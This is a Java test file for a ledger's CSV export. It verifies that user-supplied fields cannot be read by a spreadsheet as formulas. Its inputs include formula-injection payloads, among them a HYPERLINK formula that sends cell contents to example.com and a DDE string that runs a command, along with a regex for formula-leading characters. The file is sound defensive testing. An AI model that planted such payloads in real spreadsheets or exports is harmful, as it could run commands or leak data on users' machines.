package org.creditsledger.exports.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.creditsledger.testing.Given.key;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

import com.opencsv.CSVParserBuilder;
import com.opencsv.CSVReaderBuilder;
import com.opencsv.ICSVParser;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.creditsledger.ledger.LedgerService;
import org.creditsledger.ledger.Posting;
import org.creditsledger.testing.DatabaseTest;
import org.creditsledger.testing.Given;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

/** How a spreadsheet reads a download. */
@DatabaseTest
record CsvRoundTripTest(MockMvcTester http, LedgerService ledger, Given given) {

    /** Text that Excel, LibreOffice or Google Sheets could take for the start of a formula. */
    private static final String FORMULA = "(?s)^[=+@\\-\\t\\r\\n\uFF1D\uFF0B\uFF0D\uFF20].*";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-35",
                "+35",
                "\t=1+1",
                "\n=1+1",
                "two\nlines, a comma and \"quotes\"",
                "'=1+1",
                "\u00A0=1+1",
                "\u200B@SUM(1)",
                "sold;=1+1",
                "sold;'s; - 5",
                "😀 👩‍👩‍👧 שלום \u202Eעולם مرحبا",
            })
    void text_is_read_back_unchanged_and_is_no_formula(String reason) throws Exception {
        var uid = given.userWith(100);
        ledger.post(Posting.jobDebit(
                uid, "image", 35, "text2image", key(), reason, Map.of("prompt", reason), "service:test"));

        var row = rows("/api/credits/export.csv", uid, "USER").getFirst();

        assertThat(row.get("reason")).doesNotMatch(FORMULA);
        assertThat(withoutApostrophes(row.get("reason"))).isEqualTo(reason);
        assertThat(row.get("reason").split("[;\t\r\n]")).noneMatch(cell -> cell.matches(FORMULA));
        assertThat(row.get("meta")).startsWith("{\"prompt\":");
        assertThat(row.get("amount")).isEqualTo("35");
        assertThat(row.get("balance_after")).isEqualTo("65");
        assertThat(row.get("seq")).isEqualTo("2");
    }

    @Test
    void no_column_that_others_can_fill_contains_a_formula_for_admins() throws Exception {
        var uid = "=HYPERLINK(\"//x/" + key() + "\")";
        given.credit(uid, 50);
        var job = "@SUM(" + key() + ")";
        ledger.post(Posting.jobDebit(uid, "image", 35, "text2image", job, "-35", Map.of("=1", "+1"), "service:test"));

        var rows = rows(
                "/api/admin/credits/export.csv?uid=" + URLEncoder.encode(uid, StandardCharsets.UTF_8),
                "admin",
                "ADMIN");

        assertThat(rows).hasSize(2);
        assertThat(rows.getFirst().values()).noneMatch(cell -> cell.matches(FORMULA));
        assertThat(withoutApostrophes(rows.getFirst().get("uid"))).isEqualTo(uid);
        assertThat(withoutApostrophes(rows.getFirst().get("job_id"))).isEqualTo(job);
        assertThat(rows).extracting(row -> row.get("amount")).containsExactly("35", "50");
    }

    private static String withoutApostrophes(String cell) {
        return cell.replaceAll("(^|[;\t\r\n])'", "$1");
    }

    private List<Map<String, String>> rows(String uri, String uid, String role) throws Exception {
        var csv = http.get()
                .uri(URI.create(uri))
                .with(user(uid).roles(role))
                .exchange()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        try (var reader = new CSVReaderBuilder(new StringReader(csv))
                .withCSVParser(new CSVParserBuilder()
                        .withEscapeChar(ICSVParser.NULL_CHARACTER)
                        .build())
                .build()) {
            var lines = reader.readAll();
            var names = lines.getFirst();
            return lines.stream()
                    .skip(1)
                    .map(cells -> {
                        var row = new LinkedHashMap<String, String>();
                        for (var i = 0; i < names.length; i++) {
                            row.put(names[i], cells[i]);
                        }
                        return (Map<String, String>) row;
                    })
                    .toList();
        }
    }
}
